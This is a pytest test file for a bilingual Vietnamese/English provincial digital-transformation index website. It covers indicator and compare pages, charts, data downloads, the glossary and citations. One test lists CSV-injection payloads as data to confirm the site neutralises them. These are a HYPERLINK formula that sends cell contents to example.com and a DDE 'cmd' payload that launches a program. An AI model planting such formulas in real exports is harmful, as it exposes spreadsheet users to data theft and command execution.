"""Compare, see and reuse: indicator pages, charts, downloads, glossary, citation, print."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
from urllib.parse import urljoin, urlsplit

import pytest

from conftest import PROJECT_DIR, text_of

LANGUAGES = {"vi": ("", "chi-so"), "en": ("en/", "indicators")}
SVG_NS = "{http://www.w3.org/2000/svg}"


def indicator_path(language: str, indicator_id: str) -> str:
    prefix, segment = LANGUAGES[language]
    return f"{prefix}{segment}/{indicator_id}/"


def reporting(data: dict) -> dict[str, list[tuple[str, dict]]]:
    result: dict[str, list] = {}
    for province_id, province in data["provinces"].items():
        for figure in province["figures"]:
            result.setdefault(figure["indicator"], []).append((province_id, figure))
    return result


@pytest.mark.parametrize("language", LANGUAGES)
def test_each_indicator_page_lists_every_province_reporting_it(site, data, language):
    by_indicator = reporting(data)
    for indicator_id, indicator in data["indicators"].items():
        page = site.page(indicator_path(language, indicator_id))
        assert text_of(page.find("h1")) == indicator["name"][language]
        rows = page.select("table.cds-indicator-figures tbody tr")
        shown = sorted(text_of(row.find("th").find("a")) for row in rows)
        expected = sorted(data["provinces"][pid]["name"][language] for pid, _ in by_indicator.get(indicator_id, []))
        assert shown == expected, indicator_id


def test_indicator_pages_warn_when_periods_differ(site, data):
    by_indicator = reporting(data)
    for indicator_id, entries in by_indicator.items():
        periods = {figure.get("period") or figure.get("as_of") for _, figure in entries}
        for language in LANGUAGES:
            warning = site.page(indicator_path(language, indicator_id)).select_one(".cds-not-comparable")
            assert (warning is not None) == (len(periods) > 1), (indicator_id, periods)


def test_indicator_table_reads_in_a_sensible_order_without_javascript(site):
    rows = site.page(indicator_path("en", "dti")).select("table.cds-indicator-figures tbody tr")
    periods = [row.select("td")[1].find("time")["datetime"] for row in rows]
    assert periods == sorted(periods, reverse=True)


def test_tables_are_accessible_and_numbers_right_aligned(site):
    for path in ("xep-hang/dti-2022/", "en/rankings/dti-2022/", "so-sanh/", "en/compare/", indicator_path("vi", "pci"), "tinh/nghe-an/"):
        for table in site.page(path).select("table.cds-table"):
            assert table.find("caption").get_text(strip=True), path
            assert all(th.get("scope") == "col" for th in table.select("thead th")), path
            assert all(row.find("th", scope="row") for row in table.select("tbody tr")), path
            header = [th.get_text(strip=True) for th in table.select("thead th")]
            value_columns = [i for i, th in enumerate(table.select("thead th")) if "cds-num" in th.get("class", [])]
            assert value_columns, (path, header)


COMPARE_PAGES = {"vi": ("so-sanh/", "tinh/", "phuong-phap/", "xep-hang/"), "en": ("en/compare/", "en/provinces/", "en/about/", "en/rankings/")}


def figures_by_id(data: dict) -> dict[str, tuple[str, dict]]:
    """Every figure by its id on the site, `<province>-<indicator>-<n>` (the n-th figure of
    that indicator in the province's file), with its province."""
    result = {}
    for province_id, province in data["provinces"].items():
        counts: dict[str, int] = {}
        for figure in province["figures"]:
            counts[figure["indicator"]] = counts.get(figure["indicator"], 0) + 1
            result[f"{province_id}-{figure['indicator']}-{counts[figure['indicator']]}"] = (province_id, figure)
    return result


def value_kind(figure: dict) -> str | None:
    if "value_range" in figure:
        return "range"
    if figure.get("value") is None:
        return None
    return "out_of" if "out_of" in figure else "number"


def compare_target(page_path: str, href: str) -> tuple[str, str]:
    """A link of the compare page as (site path, anchor)."""
    target = urlsplit(urljoin("http://site/" + page_path, href))
    return target.path[1:], target.fragment


@pytest.mark.parametrize("language", LANGUAGES)
def test_compare_page_has_an_introduction_linking_methodology_and_rankings(site, language):
    path, _, about, rankings = COMPARE_PAGES[language]
    intro = site.page(path).select_one("article .cds-compare-intro")
    assert intro is not None and intro.find_next("h2") is not None
    assert intro.find_previous("h2") is None  # before the first pillar
    assert len(text_of(intro)) > 300, text_of(intro)
    targets = {compare_target(path, a["href"])[0] for a in intro.find_all("a")}
    assert {about, rankings} <= targets, targets
    hint = intro.select_one(".cds-sort-hint")
    assert hint is not None and hint.has_attr("hidden") and text_of(hint)  # shown by sort-table.js


@pytest.mark.parametrize("language", LANGUAGES)
def test_compare_page_groups_figures_by_indicator_within_each_pillar(site, data, language):
    path = COMPARE_PAGES[language][0]
    page = site.page(path)
    figures = figures_by_id(data)
    seen = []
    blocks = page.select("article section.cds-compare-block")
    assert len(blocks) == len({figure["indicator"] for _, figure in figures.values()})
    for block in blocks:
        table = block.select_one("table.cds-compare")
        indicator_id = table["data-indicator"]
        indicator = data["indicators"][indicator_id]
        # The block sits under its pillar's heading; its heading links to the indicator's page.
        assert block.find_previous("h2")["id"] == f"pillar-{indicator['pillar']}", indicator_id
        heading = block.find("h3")
        assert text_of(heading) == indicator["name"][language]
        assert compare_target(path, heading.find("a")["href"])[0] == indicator_path(language, indicator_id)
        valued = []
        for row in table.select("tbody tr"):
            province_link = row.find("th", scope="row").find("a")
            province_path, figure_id = compare_target(path, province_link["href"])
            province_id, figure = figures[figure_id]
            assert figure["indicator"] == indicator_id, figure_id
            assert province_path == COMPARE_PAGES[language][1] + province_id + "/"
            assert text_of(province_link) == data["provinces"][province_id]["name"][language]
            seen.append(figure_id)
            valued += [figure] if value_kind(figure) else []
        # The unit line names every unit the block's values are given in.
        units = {figure.get("unit", indicator["unit"]) for figure in valued} or {indicator["unit"]}
        labels = {u["id"]: u["label"][language] for u in data["definitions"]["units"]}
        unit_line = text_of(block.select_one(".cds-compare-unit"))
        assert all(labels[unit] in unit_line for unit in units), (indicator_id, unit_line)
    assert sorted(seen) == sorted(figures)  # every figure, once


@pytest.mark.parametrize("language", LANGUAGES)
def test_compare_tables_sort_values_only_within_one_unit_and_kind(site, data, language):
    path = COMPARE_PAGES[language][0]
    figures = figures_by_id(data)
    labels = {u["id"]: u["label"][language] for u in data["definitions"]["units"]}
    mixed_units = sortable_values = 0
    for block in site.page(path).select("article section.cds-compare-block"):
        table = block.select_one("table.cds-compare")
        indicator = data["indicators"][table["data-indicator"]]
        rows = table.select("tbody tr")
        shown = [figures[compare_target(path, row.find("th").find("a")["href"])[1]][1] for row in rows]
        valued = [figure for figure in shown if value_kind(figure)]
        units = {figure.get("unit", indicator["unit"]) for figure in valued}
        kinds = {value_kind(figure) for figure in valued}
        headers = table.select("thead th")
        value_header = headers[1]
        assert text_of(value_header) == ("Giá trị" if language == "vi" else "Value")
        assert ("cds-sortable" in table["class"]) == (len(rows) > 1)
        sorts_by_value = len(valued) > 1 and len(units) == 1 and len(kinds) == 1
        assert value_header.has_attr("data-no-sort") == (not sorts_by_value), table["data-indicator"]
        assert headers[4].has_attr("data-no-sort")  # the source column
        note = block.select_one(".cds-compare-unsortable")
        if len(units) > 1:
            mixed_units += 1
            assert note is not None and all(labels[unit] in text_of(note) for unit in units), table["data-indicator"]
        elif len(rows) > 1 and len(kinds) > 1:
            assert note is not None, table["data-indicator"]
        else:
            assert note is None, table["data-indicator"]
        if sorts_by_value:
            sortable_values += 1
            # Machine values for sorting: plain numbers with a dot.
            for row in rows:
                if row.find("td")["data-sort"]:
                    float(row.find("td")["data-sort"])
    assert mixed_units and sortable_values  # the data has both cases: the test sees both
    sources = [s.get("src", "") for s in site.page(path).find_all("script")]
    assert any(src.endswith("assets/javascripts/sort-table.js") for src in sources)


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_compared_value_links_its_source(site, data, language):
    path = COMPARE_PAGES[language][0]
    figures = figures_by_id(data)
    without_address = 0
    for row in site.page(path).select("article table.cds-compare tbody tr"):
        province_id, figure = figures[compare_target(path, row.find("th").find("a")["href"])[1]]
        source = data["sources"][figure["source"]]
        cell = row.select("td")[-1]
        assert cell["data-label"] == ("Nguồn" if language == "vi" else "Source")
        link = cell.select_one("a.cds-compare-source")
        assert text_of(link).startswith(source["outlet"]), text_of(link)
        title = source["title"]
        if language == "en" and source["language"] != "en" and source.get("title_en"):
            title += f" [{source['title_en']}]"
        assert link["title"] == title
        if source.get("url"):
            assert link["href"] == source["url"] and "external" in link["rel"]
        else:
            without_address += 1
            target, anchor = compare_target(path, link["href"])
            assert (target, anchor) == (COMPARE_PAGES[language][1] + province_id + "/", "source-" + source["id"])
            entry = site.page(target).find(id=anchor)
            assert entry is not None and " ".join(source["no_url"][language].split()) in text_of(entry)
            assert text_of(cell.select_one(".cds-no-url"))
    assert without_address  # the data has a source without an address: the test sees it


@pytest.mark.parametrize("language", LANGUAGES)
def test_compare_cells_carry_their_column_labels(site, language):
    for table in site.page(COMPARE_PAGES[language][0]).select("article table.cds-compare"):
        headers = [text_of(th) for th in table.select("thead th")]
        for row in table.select("tbody tr"):
            cells = row.find_all(["th", "td"], recursive=False)
            assert [cell["data-label"] for cell in cells] == headers


def test_compare_page_keeps_inference_markers_and_open_questions(site, data):
    figures = figures_by_id(data)
    questions = sum(1 for _, figure in figures.values() if figure.get("open_question"))
    inferred = sum(1 for _, figure in figures.values() if figure.get("inferred"))
    assert questions and inferred
    for language in LANGUAGES:
        page = site.page(COMPARE_PAGES[language][0])
        assert len(page.select("table.cds-compare .cds-open-question")) == questions
        rows = page.select("table.cds-compare tbody tr")
        marked = [row for row in rows if row.select("td details.cds-inferred")]
        assert len(marked) >= inferred


def svg_elements(html_file) -> list[ET.Element]:
    """Every inline <svg> of a built page, parsed as XML: it must be well-formed SVG."""
    text = html_file.read_text(encoding="utf-8")
    return [ET.fromstring(match) for match in re.findall(r"<svg xmlns=\"http://www.w3.org/2000/svg\".*?</svg>", text, re.S)]


def charted(figure: dict) -> bool:
    """A figure an indicator chart can draw: a value, or a rank with its total."""
    return "value" in figure or "value_range" in figure or any("total" in rank for rank in figure.get("ranks", ()))


def test_every_chart_is_valid_svg_with_title_description_and_data_link(site, data):
    charts_seen = 0
    for file in site.html_files():
        path = site.path_of(file)
        page = site.page(path)
        for svg in svg_elements(file):
            if svg.get("role") != "img":
                continue  # Material's icons and the bars' plots (aria-hidden, their text is HTML)
            title, desc = svg.find(f"{SVG_NS}title"), svg.find(f"{SVG_NS}desc")
            assert title is not None and title.text.strip(), path
            assert desc is not None and desc.text.strip(), path
            labelled = svg.get("aria-labelledby").split()
            assert labelled == [title.get("id"), desc.get("id")]
        for figure in page.select("figure.cds-chart"):
            charts_seen += 1
            link = figure.find("figcaption").find("a", href=True)
            target = urlsplit(urljoin("http://site/" + path, link["href"])).path.lstrip("/")
            assert (site.root / target).is_file(), (path, link["href"])
    # Every indicator with a value or a rank out of a total gets a chart, in both languages.
    figures = [figure for province in data["provinces"].values() for figure in province["figures"]]
    drawn = {figure["indicator"] for figure in figures if charted(figure)}
    for indicator in drawn:
        for language in ("vi", "en"):
            assert site.page(indicator_path(language, indicator)).select_one("figure.cds-chart"), (language, indicator)
    assert charts_seen >= 2 * len(drawn)


def test_charts_describe_their_key_figures(site):
    """Each bar carries its value as text beside it, so colour and length are not the only cues."""
    rows = site.page(indicator_path("en", "dti")).select("figure.cds-chart li.cds-bar-row")
    nghe_an = [row for row in rows if "Nghe An" in row.select_one(".cds-bar-label").get_text()]
    assert any("52/63" in row.select_one(".cds-bar-value").get_text() for row in nghe_an)
    rows = site.page(indicator_path("vi", "grdp-growth")).select("figure.cds-chart li.cds-bar-row")
    assert "13,94%" in [row.select_one(".cds-bar-value").get_text(strip=True) for row in rows]


def test_targets_have_progress_bars_and_provinces_a_time_axis(site, data):
    for language, path in (("vi", "tinh/nghe-an/"), ("en", "en/provinces/nghe-an/")):
        page = site.page(path)
        bars = page.select("svg.cds-progress")
        with_progress = [t for t in data["provinces"]["nghe-an"]["targets"] if "progress" in t]
        later = [report for t in data["provinces"]["nghe-an"]["targets"] for report in t.get("later_progress", ())]
        assert len(bars) == len(with_progress) + len(later)  # one bar for each report, first and later
        assert "8/11" in bars[0].find("desc").get_text() or "8 of 11" in bars[0].find("desc").get_text()
        timeline = page.select_one("#timeline-chart-nghe-an svg")
        assert timeline["role"] == "img" and not timeline.find("a")
        marks = timeline.select("g.cds-timeline-mark")
        items = page.select("ol.cds-timeline > li")
        assert len(marks) == len(items) == len(data["provinces"]["nghe-an"]["events"])
        # Mark n on the axis is item n of the list, which carries the links.
        assert [mark["data-event"] for mark in marks] == [item["id"] for item in items]
        assert [mark.find("text").get_text() for mark in marks] == [str(n) for n in range(1, len(items) + 1)]


def read_download(site, path: str) -> bytes:
    return (site.root / path).read_bytes()


def figure_rows(raw: str) -> list[dict]:
    """The rows of kind `figure` of a CSV download."""
    return [row for row in csv.DictReader(io.StringIO(raw)) if row["kind"] == "figure"]


def items(document: dict, section: str) -> list[dict]:
    """Every figure, target or event of a JSON download, province by province."""
    return [item for province in document["provinces"] for item in province[section]]


def test_csv_and_json_hold_every_figure_with_its_source(site, data):
    total = sum(len(p["figures"]) for p in data["provinces"].values())
    rows = figure_rows(read_download(site, "data/cds-figures.csv").decode("utf-8-sig"))
    assert len(rows) == total
    document = json.loads(read_download(site, "data/cds-figures.json"))
    assert len(items(document, "figures")) == total
    assert len(items(document, "targets")) == sum(len(p["targets"]) for p in data["provinces"].values())
    assert len(items(document, "events")) == sum(len(p["events"]) for p in data["provinces"].values())
    for row, item in zip(rows, items(document, "figures"), strict=True):
        assert row["figure_id"] == item["figure_id"]
        assert row["source_id"] in data["sources"]
        assert row["source_title"] == data["sources"][row["source_id"]]["title"]
        if row["value"]:
            assert float(row["value"]) == item["value"]
            assert "," not in row["value"]
        for key in ("period", "as_of", "source_published"):
            if row[key]:
                assert re.fullmatch(r"\d{4}(-(\d{2}|Q\d|H\d)(-\d{2})?)?", row[key]), row[key]
    vsip = next(r for r in rows if r["value"] == "948.4")
    assert vsip["province_id"] == "nghe-an" and vsip["unit_en"] == "million USD"


def test_one_download_per_province_matches_its_figures(site, data):
    for province_id, province in data["provinces"].items():
        rows = figure_rows(read_download(site, f"data/provinces/{province_id}.csv").decode("utf-8-sig"))
        assert len(rows) == len(province["figures"])
        document = json.loads(read_download(site, f"data/provinces/{province_id}.json"))
        assert [p["province_id"] for p in document["provinces"]] == [province_id]
        assert {f["province_id"] for f in items(document, "figures")} == {province_id}
        assert len(items(document, "figures")) == len(province["figures"])


def test_pages_link_their_downloads_with_the_file_size(site, data):
    for language, path in (("vi", "tinh/thanh-hoa/"), ("en", "en/provinces/thanh-hoa/")):
        page = site.page(path)
        links = page.select(".cds-downloads a[download]")
        targets = {urlsplit(urljoin("http://site/" + path, a["href"])).path.lstrip("/"): a for a in links}
        assert "data/provinces/thanh-hoa.csv" in targets and "data/cds-figures.json" in targets
        for target, link in targets.items():
            size_kb = (site.root / target).stat().st_size / 1024
            label = link.find_next_sibling("small").get_text()
            shown = float(re.search(r"([\d.,]+) KB", label).group(1).replace(".", "").replace(",", ".") if language == "vi" else re.search(r"([\d.,]+) KB", label).group(1).replace(",", ""))
            assert abs(shown - size_kb) < 0.06, (target, label, size_kb)


def test_download_sizes_measured_without_writing_are_the_written_sizes(tmp_path, monkeypatch):
    """An English build run on its own (`mkdocs build -f mkdocs.en.yml`) links the files
    without writing them: the sizes it shows must be those of the files."""
    from cds import downloads
    from cds.dataset import read_dataset

    dataset = read_dataset(PROJECT_DIR / "data", PROJECT_DIR / "schema", PROJECT_DIR)
    written = downloads.write_downloads(dataset, tmp_path)
    for info in written.values():
        assert (tmp_path / info.path).stat().st_size == info.size, info.path
    monkeypatch.setattr(downloads, "_written", None)  # as in a process that wrote nothing
    assert downloads.download_links(dataset) == written
    document = json.loads((tmp_path / "data" / "cds-figures.json").read_bytes())
    assert list(document) == ["title", "licence", "columns", "provinces", "sources"]
    assert list(document["provinces"][0])[-3:] == ["figures", "targets", "events"]


# Texts a spreadsheet would run as a formula (OWASP, "CSV Injection"), and texts it would not.
FORMULAS = ['=HYPERLINK("https://example.com/?d="&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
NOT_FORMULAS = ["a=b", "Nghệ An: +12 bậc", "5-6", "e-Gov"]


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(project_copy, tmp_path):
    """Source titles and notes that begin like a formula are neutralised in the CSV files by a
    leading `'`, and given exactly in the JSON files; numbers, negative ones too, stay numbers."""
    import yaml

    from cds import downloads
    from cds.dataset import read_dataset

    sources_file = project_copy / "data" / "sources.yml"
    sources = yaml.safe_load(sources_file.read_text(encoding="utf-8"))
    mixed = [text for pair in zip(FORMULAS, NOT_FORMULAS + [None] * len(FORMULAS)) for text in pair if text]
    titles = {source["id"]: mixed[number % len(mixed)] for number, source in enumerate(sources["sources"])}
    for source in sources["sources"]:
        source["title"] = titles[source["id"]]
    sources_file.write_text(yaml.safe_dump(sources, allow_unicode=True, sort_keys=False), encoding="utf-8")
    province_file = project_copy / "data" / "provinces" / "nghe-an.yml"
    province = yaml.safe_load(province_file.read_text(encoding="utf-8"))
    figure = province["figures"][0]
    figure["note"] = {"vi": "-5 so với 2022", "en": "@ the end of 2022"}
    figure["ranks"] = [{"scope": "national", "position": 20, "total": 63, "change": -3, "change_since": "2021"}]
    province_file.write_text(yaml.safe_dump(province, allow_unicode=True, sort_keys=False), encoding="utf-8")

    dataset = read_dataset(project_copy / "data", project_copy / "schema", project_copy)
    downloads.write_downloads(dataset, tmp_path)
    raw = (tmp_path / "data" / "cds-figures.csv").read_text(encoding="utf-8-sig")
    rows = figure_rows(raw)
    figures = items(json.loads((tmp_path / "data" / "cds-figures.json").read_bytes()), "figures")
    used = {row["source_title"] for row in rows}
    assert used & set(FORMULAS) == set(), "a formula is written as it is"
    assert {"'" + title for title in FORMULAS} & used and set(NOT_FORMULAS) & used, "the data should hold both kinds"
    for row, item in zip(rows, figures, strict=True):
        title = titles[row["source_id"]]
        assert row["source_title"] == ("'" + title if title in FORMULAS else title)
        assert item["source_title"] == title
    first = next(row for row in rows if row["province_id"] == "nghe-an" and row["indicator_id"] == figure["indicator"])
    assert (first["note_vi"], first["note_en"]) == ("'-5 so với 2022", "'@ the end of 2022")
    assert figures[rows.index(first)]["note_vi"] == "-5 so với 2022"
    # Every text is quoted, so that no separator a spreadsheet may choose (`;`) starts a cell
    # inside it; numbers are bare, and the negative rank change is a number, not text.
    lines = raw.splitlines()
    assert lines[0].startswith('"kind","figure_id","province_id",')
    line = next(line for line in lines if line.startswith(f'"figure","{first["figure_id"]}",'))
    cells = dict(zip(downloads.csv_columns(dataset), next(csv.reader([line], quoting=csv.QUOTE_NONNUMERIC)), strict=True))
    assert (cells["rank_change"], cells["rank_position"]) == (-3, 20)
    assert ",-3," in line and figures[rows.index(first)]["rank_change"] == -3


@pytest.mark.parametrize("text, shown", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
    ("\t=1+2", "'\t=1+2"), ("\r=1+2", "'\r=1+2"), ("\nx", "'\nx"), ("\tx", "'\tx"),
    (" =1+2", "' =1+2"), ("\u00a0=1+2", "'\u00a0=1+2"), (" \n @A1", "' \n @A1"),
    ("a=1+2", "a=1+2"), ("x\n=1", "x\n=1"), ("'=1", "'=1"), ("", ""), ("1-2", "1-2"), ("Đà Nẵng", "Đà Nẵng"),
])
def test_spreadsheet_text_follows_owasp(text, shown):
    """OWASP: a cell must not begin with =, +, -, @, tab, carriage return or line feed; this
    site also looks past leading spaces, which spreadsheets may trim when they import."""
    from cds.downloads import spreadsheet_text

    assert spreadsheet_text(text) == shown


def acronyms_in_data(data) -> set[str]:
    """Acronyms in reader-facing text: runs of two or more capitals, leaving out document
    numbers (09-NQ/TU, 202/2025/QH15), roman numerals and period codes."""
    texts = []

    def collect(value):
        if isinstance(value, dict):
            for key, item in value.items():
                if key in ("vi", "en", "title", "author", "outlet") and isinstance(item, str):
                    texts.append(item)
                elif key not in ("documents", "document", "resolution", "id", "url"):
                    collect(item)
        elif isinstance(value, list):
            for item in value:
                collect(item)

    collect(data["indicators"])
    collect(data["provinces"])
    collect(list(data["sources"].values()))
    found = set()
    for text in texts:
        text = re.sub(r"\b[\w.]*\d[\w.]*(?:[-/][\w.]+)+", " ", text)  # document numbers
        for token in re.findall(r"(?<!\w)([A-ZĐ][A-ZĐ0-9]*[A-ZĐ](?: INDEX| Index)?|VNeID|5G)(?!\w)", text):
            if not re.fullmatch(r"[IVX]+|Q\d|H\d", token):
                found.add(token)
    return found


def test_glossary_covers_every_acronym_used_in_the_data(data):
    import yaml

    glossary = yaml.safe_load((PROJECT_DIR / "data" / "glossary.yml").read_text(encoding="utf-8"))["terms"]
    spellings = {s for term in glossary for s in [term.get("abbreviation"), *term.get("also", [])] if s}
    used = acronyms_in_data(data)
    assert {"DTI", "PCI", "FDI", "GRDP", "LGSP", "OCOP"} <= used
    assert used <= spellings, sorted(used - spellings)


def test_glossary_page_in_both_languages(site):
    import yaml

    glossary = yaml.safe_load((PROJECT_DIR / "data" / "glossary.yml").read_text(encoding="utf-8"))["terms"]
    for language, path in (("vi", "thuat-ngu/"), ("en", "en/glossary/")):
        entries = site.page(path).select("dl.cds-glossary > dt")
        assert len(entries) == len(glossary)
        names = " ".join(dt.get_text(" ", strip=True) for dt in entries)
        for term in glossary:
            assert term["name"][language] in names


@pytest.mark.parametrize("path, title", [("tinh/nghe-an/", "Chỉ số chuyển đổi số cấp tỉnh"), ("en/provinces/nghe-an/", "Provincial Digital Transformation Index"), ("", "Chỉ số chuyển đổi số cấp tỉnh"), ("en/about/", "Provincial Digital Transformation Index")])
def test_acronyms_are_explained_on_hover(site, path, title):
    abbreviations = {abbr.get_text(): abbr["title"] for abbr in site.page(path).find_all("abbr")}
    assert abbreviations.get("DTI") == title


def test_every_page_suggests_a_citation_and_states_the_licence(site):
    today = datetime.date.today()
    for file in site.html_files():
        path = site.path_of(file)
        if path.endswith("404.html"):
            continue
        page = site.page(path)
        citation = page.select_one("aside.cds-citation").get_text(" ", strip=True)
        footer = page.select_one(".md-copyright").get_text(" ", strip=True)
        assert "CC BY 4.0" in footer
        if path.startswith("en/"):
            assert citation.startswith("Cite this page: Source:") and "retrieved" in citation
            assert today.strftime("%-d %B %Y") in footer
        else:
            assert citation.startswith("Trích dẫn trang này: Nguồn:") and "truy cập ngày" in citation
            assert today.strftime("%d/%m/%Y") in footer


def test_print_stylesheet_hides_navigation(site):
    css = (site.root / "assets" / "stylesheets" / "cds.css").read_text(encoding="utf-8")
    start = css.index("@media print")
    depth, end = 0, start
    for end in range(css.index("{", start), len(css)):
        depth += {"{": 1, "}": -1}.get(css[end], 0)
        if depth == 0:
            break
    inner = css[css.index("{", start) + 1 : end]
    hidden = {
        selector.strip()
        for selectors, declarations in re.findall(r"([^{}]+)\{([^{}]*)\}", inner)
        if re.search(r"display:\s*none", declarations)
        for selector in selectors.split(",")
    }
    assert {".md-header", ".md-tabs", ".md-sidebar", ".md-footer", ".md-search"} <= hidden
    assert re.search(r"@page\s*\{\s*size:\s*A4", css)
